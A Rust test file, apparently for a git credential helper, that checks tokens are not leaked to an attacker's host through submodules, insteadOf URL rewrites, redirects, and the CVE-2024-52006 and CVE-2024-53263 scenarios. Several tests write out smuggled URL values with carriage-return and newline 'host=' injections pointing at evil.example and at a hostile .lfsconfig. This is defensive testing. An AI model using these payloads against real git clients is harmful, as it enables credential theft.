//! Attacks that go through a real git or git-lfs: submodules, rewritten URLs, redirects, and a git
//! that protects nobody. In each of them the helper is configured for every host.

use crate::scene::*;
use crate::town::http::{Answer, Exchange};
use crate::town::server::Server;
use crate::town::{Git, Town};

/// With a clone in `app`, and an attacker's town.
fn attacked(git: &Git) -> (Scene, Town) {
    let scene = Scene::careless(git);
    scene.clone_into("app");
    (scene, Town::start())
}

/// Asserts that the attacker's host was asked, and was shown no credential.
#[track_caller]
fn assert_saw_no_token(attacker: &Town) {
    let requests = attacker.github.requests();
    assert!(!requests.is_empty(), "nobody came: the test proves nothing");
    for request in requests {
        assert_eq!((&request.token, request.status), (&None, 401), "{request:?}");
    }
}

/// A repository with a submodule on another host, cloned recursively.
#[test]
fn clone2leak_a_submodule_on_another_host() {
    for git in Git::all() {
        let (scene, attacker) = attacked(&git);
        let url = attacker.github.url("acme/app");
        let modules = format!("[submodule \"sub\"]\n\tpath = sub\n\turl = {url}\n");
        scene.home.commit("app", ".gitmodules", modules.as_bytes());
        let commit = scene.home.git_in("app", &["rev-parse", "HEAD"]).stdout;
        let entry = format!("160000,{},sub", commit.trim());
        scene.home.git_in("app", &["update-index", "--add", "--cacheinfo", &entry]).assert_ok();
        scene.home.git_in("app", &["commit", "--quiet", "--message", "submodule"]).assert_ok();
        scene.home.git_in("app", &["push", "--quiet", "origin", "HEAD"]).assert_ok();
        let url = scene.github.url(REPOSITORY);
        let ran = scene.home.git(&["clone", "--quiet", "--recursive", &url, "again"]);
        ran.assert_fails().mentions("could not read Username").never_says(&scene.current());
        assert_eq!(ran.warnings().len(), 0, "{ran:?}");
        assert!(scene.path("again/.gitmodules").exists(), "the rest came\n{ran:?}");
        assert_saw_no_token(&attacker);
    }
}

/// A repository's own configuration sends git elsewhere behind the URL that a person sees.
#[test]
fn paperclip_10720_instead_of_rewrites_our_host() {
    for git in Git::all() {
        for key in ["insteadOf", "pushInsteadOf"] {
            let (scene, attacker) = attacked(&git);
            scene.home.commit("app", "file", b"content");
            let evil = format!("url.http://{}/.{key}", attacker.github.host());
            let ours = format!("http://{}/", scene.github.host());
            scene.home.git_in("app", &["config", &evil, &ours]).assert_ok();
            scene.home.git_in("app", &["push", "origin", "HEAD"]).assert_fails();
            assert_saw_no_token(&attacker);
        }
    }
}

/// Our host itself sends git on to another.
#[test]
fn a_git_host_that_redirects_to_another() {
    for git in Git::all() {
        let (mut scene, attacker) = (Scene::careless(&git), Town::start());
        let url = format!("http://{}", attacker.github.host());
        let redirector = Server::start(move |stream| {
            let Ok(exchange) = Exchange::read_head(stream) else { return };
            let location = format!("{url}{}", exchange.target);
            let _ = exchange.answer(&Answer::new(302, "").header("Location", &location));
        });
        let ours = format!("http://127.0.0.1:{}", redirector.port());
        scene.home.set("GASTOWN_GIT_HOSTS", &ours);
        scene.home.git(&["clone", &format!("{ours}/acme/app.git"), "app"]).assert_fails();
        assert_saw_no_token(&attacker);
    }
}

/// The protection in git itself is switched off, or was never there.
#[test]
fn cve_2024_52006_a_git_that_lets_carriage_returns_through() {
    for git in Git::all() {
        let scene = Scene::careless(&git);
        for url in ["http://HOST%0d.evil.example/", "http://evil.example%0dhost=HOST/"] {
            let url = url.replace("HOST", &scene.github.host());
            let fill = ["-c", "credential.protectProtocol=false", "credential", "fill"];
            let ran = scene.home.run("git", &fill, &format!("url={url}\n\n"));
            ran.assert_fails();
            assert!(!ran.stdout.contains("password"), "{ran:?}");
        }
        // The same way in works for who asks honestly.
        let honest = format!("url=http://{}/\n\n", scene.github.host());
        let ran = scene.home.run("git", &["credential", "fill"], &honest);
        assert!(ran.assert_ok().stdout.contains(&scene.current()), "{ran:?}");
    }
}

/// `.lfsconfig` comes with the repository and says where git-lfs asks.
#[test]
fn cve_2024_53263_a_hostile_lfsconfig_and_a_real_git_lfs() {
    let (scene, attacker) = attacked(&Git::newest());
    if scene.home.git(&["lfs", "version"]).code != 0 {
        return crate::town::skip("there is no git-lfs");
    }
    let evil = attacker.github.host();
    let ours = scene.github.host();
    for url in [
        format!("http://{evil}/acme/app.git/info/lfs"),
        format!("http://github.com@{evil}/acme/app.git/info/lfs"),
        format!("http://{evil}/%0ahost={ours}"),
        format!("http://{evil}%0ahost={ours}/"),
        format!("http://{evil}%0d%0ahost={ours}/"),
    ] {
        let config = format!("[lfs]\n\turl = {url}\n");
        scene.write("app/.lfsconfig", config);
        let ran = scene.home.git_in("app", &["lfs", "locks"]);
        ran.assert_fails();
        assert!(!format!("{ran:?}").contains(&scene.current()), "{ran:?}");
    }
    assert_saw_no_token(&attacker);
}
